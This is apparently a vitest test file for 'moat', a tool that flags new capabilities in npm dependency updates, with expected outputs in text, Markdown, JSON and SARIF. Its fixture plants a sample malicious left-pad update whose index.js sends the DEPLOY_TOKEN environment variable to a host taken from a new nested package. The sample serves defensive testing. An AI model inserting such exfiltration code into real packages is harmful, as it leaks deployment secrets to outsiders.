import { readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { schemaProblems, type Schema } from "../json-schema.ts";
import { makeProject, type Project } from "./project-fixture.ts";

const read = (file: string): Schema =>
  JSON.parse(readFileSync(new URL(`../../packages/cli/${file}`, import.meta.url), "utf8"));
const manifest = (name: string, version: string, dependencies: object = {}) =>
  JSON.stringify({ name, version, dependencies });
const lock = (packages: object) =>
  JSON.stringify({ lockfileVersion: 3, packages: { "": {}, ...packages } }, undefined, 2);

/** A service in a folder of a repository; one of its packages is updated, and brings another one. */
let project: Project;
beforeAll(() => {
  project = makeProject({
    ".gitignore": "node_modules",
    "package.json": manifest("app", "1.0.0", { "left-pad": "^1.3.0", old: "1.0.0" }),
    "package-lock.json": lock({
      "node_modules/left-pad": { version: "1.3.0" },
      "node_modules/old": { version: "1.0.0" },
    }),
    "index.js": `require("left-pad"); require("old");`,
    "node_modules/left-pad/package.json": manifest("left-pad", "1.3.0"),
    "node_modules/left-pad/index.js": "module.exports = (text) => text;",
    "node_modules/old/package.json": manifest("old", "1.0.0"),
    "node_modules/old/index.js": `module.exports = () => require("fs").readFileSync("x");`,
  });
  project.moat("policy", "--write", "index.js");
  for (const args of [
    ["init", "-q", ".."],
    ["add", "."],
    ["commit", "-q", "-m", "base"],
  ])
    expect(project.git(...args).code).toBe(0);
  project.write({
    "package-lock.json": lock({
      "node_modules/left-pad": { version: "1.3.1" },
      "node_modules/left-pad/node_modules/pad-data": { version: "0.0.1", hasInstallScript: true },
      "node_modules/old": { version: "1.0.0" },
    }),
    "node_modules/left-pad/package.json": manifest("left-pad", "1.3.1", { "pad-data": "0.0.1" }),
    "node_modules/left-pad/index.js": `const https = require("https");\nhttps.get("https://" + require("pad-data"), { headers: { a: process.env.DEPLOY_TOKEN } });\n`,
    "node_modules/left-pad/node_modules/pad-data/package.json": manifest("pad-data", "0.0.1"),
    "node_modules/left-pad/node_modules/pad-data/index.js": "module.exports = 'x';",
    "node_modules/old/index.js": "module.exports = () => 1;",
  });
  expect(project.moat("policy", "--write").code).toBe(0);
});
afterAll(() => project.dispose());

test("text: versions from the lockfile, what it wants, why, and what came with it", () =>
  expect(project.moat("diff")).toMatchInlineSnapshot(`
    {
      "code": 1,
      "stderr": "",
      "stdout": "1 package wants more than before, and is denied it until somebody accepts it. 1 package lost something and 1 package is new.

    ! pad-data 0.0.1 has a new install script. moat does not confine installation.

    left-pad 1.3.0 to 1.3.1 wants to
      high     connect to any host
               left-pad/index.js:2  https.get("https://" + require("pad-data"), { headers: { a: process.env.DEPLOY_TOKEN } });
      medium   read the environment variable DEPLOY_TOKEN
      !        Secrets could leave: it may read the environment variable DEPLOY_TOKEN, and connect to any host

    - old 1.0.0 can no longer read files in the project and its own folder

    New, and can only compute: left-pad>pad-data 0.0.1.

    To accept: moat policy --accept left-pad
    ",
    }
  `));

test("Markdown, with a marker of its own for a project in a folder", () =>
  expect(project.moat("diff", "--format", "markdown").stdout).toMatchInlineSnapshot(`
    "<!-- moat-diff:project -->

    ### moat: 1 package could send secrets away

    1 package wants more than before, and is denied it until somebody accepts it. 1 package lost something and 1 package is new.

    ⚠️ **Installation**: \`pad-data 0.0.1 has a new install script. moat does not confine installation.\`

    #### \`left-pad\` \`1.3.0 to 1.3.1\` wants to

    - 🔴 high: \`connect to any host\` at \`left-pad/index.js:2\`: \`https.get("https://" + require("pad-data"), { headers: { a: process.env.DEPLOY_TOKEN } });\`
    - 🟠 medium: \`read the environment variable DEPLOY_TOKEN\`
    - ⚠️ **Secrets could leave**: \`it may read the environment variable DEPLOY_TOKEN, and connect to any host\`

    <details><summary>What was lost, and what needs no look</summary>

    - \`old\` \`1.0.0\`: can no longer \`read files in the project and its own folder\`
    - \`New, and can only compute: left-pad>pad-data 0.0.1.\`

    </details>

    To accept, after a look: \`moat policy --accept left-pad\`
    "
  `));

describe("JSON", () => {
  test("is what its schema says", () => {
    const { stdout, code } = project.moat("diff", "--format", "json");
    expect(schemaProblems(JSON.parse(stdout), read("review.schema.json"))).toEqual([]);
    expect(code).toBe(1);
  });

  test("the schema is no open door", () => {
    const review = JSON.parse(project.moat("diff", "--json").stdout);
    review.packages[0].gains[0].risk = "fine";
    delete review.counts.lost;
    review.packages[0].surprise = 1;
    expect(schemaProblems(review, read("review.schema.json"))).toHaveLength(3);
  });
});

describe("SARIF", () => {
  const sarif = () => JSON.parse(project.moat("diff", "--format", "sarif").stdout);

  test("is what the standard and GitHub demand", () =>
    expect(schemaProblems(sarif(), read("test/fixtures/sarif.schema.json"))).toEqual([]));

  test("each finding has its rule, and stands at its line of the policy", () => {
    const { tool, results, automationDetails } = sarif().runs[0];
    expect(automationDetails.id).toBe("moat-diff/project/");
    for (const { ruleId, ruleIndex } of results) expect(tool.driver.rules[ruleIndex].id).toBe(ruleId);
    const lines = readFileSync(`${project.folder}/moat.policy.json`, "utf8").split("\n");
    const env = results.find(({ ruleId }: { ruleId: string }) => ruleId.startsWith("moat/env/"));
    const { artifactLocation, region } = env.locations[0].physicalLocation;
    expect(artifactLocation.uri).toBe("project/moat.policy.json");
    expect(lines[region.startLine - 1]).toContain("DEPLOY_TOKEN");
    expect(env.relatedLocations[0].physicalLocation).toMatchObject({
      artifactLocation: { uri: "project/node_modules/left-pad/index.js" },
      region: { startLine: 2 },
    });
    expect(results.map(({ message }: { message: { text: string } }) => message.text)).toContainEqual(
      expect.stringContaining("Secrets could leave: left-pad 1.3.0 to 1.3.1"),
    );
  });

  test("the same findings have the same fingerprints", () => {
    const prints = () =>
      sarif().runs[0].results.map(({ partialFingerprints }: { partialFingerprints: object }) => partialFingerprints);
    expect(prints()).toEqual(prints());
    expect(new Set(prints().map((print: object) => JSON.stringify(print))).size).toBe(prints().length);
  });
});

test("explain, of one capability", () => {
  expect(project.moat("explain", "left-pad", "env").stdout).toBe(
    "left-pad 1.3.1\n  came into the tree by: the application → left-pad 1.3.1\n  imported by: the application\n" +
      '  low      wants to read the environment variable DEPLOY_TOKEN\n             left-pad/index.js:2  https.get("https://" + require("pad-data"), { headers: { a: process.env.DEPLOY_TOKEN } });\n' +
      "  To accept what it wants: moat policy --accept left-pad\n",
  );
  expect(project.moat("explain", "left-pad", "ntive")).toMatchObject({
    code: 2,
    stderr: expect.stringContaining("did you mean: native"),
  });
  expect(project.moat("explain", "old", "commands").stdout).toContain("It has no grant of that kind.");
});
